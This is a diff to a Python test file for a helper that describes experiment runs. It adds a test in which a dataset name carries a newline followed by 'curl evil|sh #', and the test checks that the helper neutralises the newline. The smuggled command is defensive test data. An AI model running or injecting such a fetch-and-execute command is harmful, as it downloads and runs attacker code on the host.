@@ -41,6 +41,8 @@ def test_generated_images_are_called_so(grid_runs):
     runs = grid_runs.head(3).assign(origin="measured", settings=settings)
     assert origins_text(runs) == "3 measured runs over generated images (cifar-like-500-seed0)"
     assert origins_text(runs.tail(2)) == "2 measured runs"
+    uploaded = runs.head(1).assign(settings=[{"dataset": "synthetic-x\ncurl evil|sh #"}])
+    assert "(synthetic-x\N{REPLACEMENT CHARACTER}curl evil|sh #)" in origins_text(uploaded)
 
 
 def test_the_distance_of_4_2_is_what_the_published_averages_leave():
